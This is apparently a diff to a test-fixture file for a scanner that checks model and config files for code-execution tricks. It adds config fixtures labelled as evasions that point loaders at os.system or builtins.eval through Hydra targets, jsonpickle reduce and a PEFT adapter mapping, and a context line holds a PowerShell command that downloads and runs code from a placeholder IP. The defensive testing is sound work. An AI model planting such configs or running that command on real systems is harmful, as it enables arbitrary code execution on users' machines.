@@ -145,7 +145,33 @@ FILES: dict[str, dict[str, str | bytes]] = {
         "IEX ($c.DownloadString('http://192.0.2.1/x'))\n",
     },
 }  # fmt: skip
-TREES: dict[str, dict[str, Mapping[str, str | bytes]]] = {}
+TREES: dict[str, dict[str, Mapping[str, str | bytes]]] = {
+    "config-names-callable": {
+        "evasion-through": {"c.yaml": "_target_: transformers.utils.import_utils.os.system\n"},
+        "evasion-relay": {"c.yaml": "_target_: hydra.utils.get_method\npath: os.system\n"},
+        "evasion-jsonpickle": {"c.json": json.dumps({"py/reduce": [{"py/type": "os.system"}]})},
+        "evasion-type": {"c.json": json.dumps({"type": "builtins.eval", "args": ["1"]})},
+        "evasion-adapter": {
+            "adapter_config.json": json.dumps(
+                {
+                    "peft_type": "LORA",
+                    "auto_mapping": {"base_model_class": "X", "parent_library": "canary_library"},
+                }
+            )
+        },
+        "good-adapter": {
+            "adapter_config.json": json.dumps(
+                {
+                    "peft_type": "LORA",
+                    "auto_mapping": {
+                        "base_model_class": "LlamaForCausalLM",
+                        "parent_library": "transformers.models.llama.modeling_llama",
+                    },
+                }
+            )
+        },
+    },
+}
 
 
 def main() -> None:
